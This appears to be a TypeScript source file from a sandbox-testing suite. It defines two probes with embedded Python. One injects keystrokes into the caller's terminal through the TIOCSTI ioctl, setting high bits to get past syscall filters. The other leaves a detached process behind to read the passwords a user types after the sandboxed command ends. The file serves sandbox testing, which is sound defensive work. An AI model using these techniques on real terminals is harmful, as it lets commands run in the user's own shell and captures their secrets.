import { readFileSync } from 'node:fs';
import type { Probe } from '../../probe.ts';
import type { Scene } from '../../scene.ts';
import { onTerminal, SYSCALL } from '../../scripts.ts';

const SWITCH = '/proc/sys/dev/tty/legacy_tiocsti';

/** Kernels from 6.2 on may leave it to root. */
function refusedByKernel({ uid }: Scene): string | undefined {
  try {
    const off = readFileSync(SWITCH, 'utf8').trim() === '0';
    return off && uid !== 0 ? `${SWITCH} is 0: the kernel refuses it` : undefined;
  } catch {
    return undefined;
  }
}

// The number counts in its low half only: a filter that compares all of it is passed by with other bits set. -1 is EPERM, a filter's answer.
const TYPE = `
${SYSCALL}
letter = ctypes.create_string_buffer(b'x')
for high in (0, 1 << 32, 0xdead << 32):
    result = call(16, 29, 0, 0x5412 | high, letter)
    print('LEAKED' if result == 0 else 'refused', result)
`;

export const TYPING: Probe = {
  id: 'terminal/typing',
  title: 'typing into the terminal for the shell outside (TIOCSTI)',
  gives: "commands that the user's own shell runs as soon as the sandboxed one has ended",
  planted: 'a terminal that the command shares with the caller',
  tried: 'ioctl TIOCSTI, plain and with more bits set',
  reference: 'https://nvd.nist.gov/vuln/detail/CVE-2017-5226',
  promise: 'processes',
  inapplicable: refusedByKernel,
  starter: () => onTerminal,
  trial: () => ({ python: TYPE }),
};

// What stays when the command has ended reads along: in a session of its own no job control stops it. `got` is not the echo.
const STAY = `
import os, sys
ready, told = os.pipe()
if os.fork() == 0:
    os.setsid()
    os.write(told, b'!')
    os.write(1, b'got ' + os.read(0, 100))
    os._exit(0)
os.read(ready, 1)
`;

/** The user's terminal: once the command has ended, a password is typed at the next prompt. It ends when nobody has it open any more. */
const PROMPT = `
import os, pty, sys, time
pid, terminal = pty.fork()
if pid == 0: os.execvp(sys.argv[2], sys.argv[2:])
text = b''
while b'ran to its end' not in text:
    try: text += os.read(terminal, 4096)
    except OSError: break
os.write(1, text)
over = time.monotonic() + 3
while os.waitpid(pid, os.WNOHANG)[0] == 0:
    if time.monotonic() > over: sys.exit('it waits for what the command left behind: there is no prompt to type at')
    time.sleep(0.01)
os.write(terminal, sys.argv[1].encode() + b'\\n')
try:
    while text := os.read(terminal, 4096): os.write(1, text)
except OSError: pass
`;

export const STAYING: Probe = {
  id: 'terminal/staying',
  title: 'staying behind to read what is typed after the command has ended',
  gives: 'the passwords and commands that the user types next',
  planted: 'a terminal that the command shares with the caller, where a secret is typed when the command is over',
  tried: 'leaving a process behind that reads the terminal',
  reference: 'https://attack.mitre.org/techniques/T1056/001/',
  promise: 'processes',
  starter: ({ canary }) => ['python3', '-c', PROMPT, canary],
  trial: () => ({ python: STAY }),
  worked: ({ canary }, { stdout }) => stdout.includes(`got ${canary}`),
};
